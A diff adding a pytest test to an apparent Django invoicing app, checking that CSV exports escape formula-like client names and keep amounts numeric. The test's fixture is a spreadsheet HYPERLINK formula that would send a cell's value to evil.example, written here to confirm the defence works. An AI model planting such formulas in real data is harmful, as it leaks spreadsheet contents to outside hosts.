@@ -139,6 +139,20 @@ def test_json_matches_the_csv_and_holds_no_floats(posted):
 
 
 @pytest.mark.django_db
+def test_csv_cells_that_look_like_formulas_are_text(owner, ticket, mnx, customer, clerk):
+    """CSV injection: a client named like a formula must not run in the accountant's spreadsheet;
+    amounts (negative ones on credit notes too) stay numbers."""
+    from tests.tally import tally
+
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    invoice = _bill_and_post(clerk, owner, ticket, mnx, customer, name=formula, org_number="+47 912")
+    rows = _rows(invoice_csv(invoice))
+    tally("abuse", 2)
+    assert {(row["client_name"], row["client_org_number"]) for row in rows} == {("'" + formula, "'+47 912")}
+    assert all(D(row["line_net"]) > 0 for row in rows)
+
+
+@pytest.mark.django_db
 def test_credit_note_exports_negative_lines_linked_to_their_originals(posted, note):
     originals = {line.pk: line for line in posted.items.all()}
     rows = _rows(invoice_csv(note))
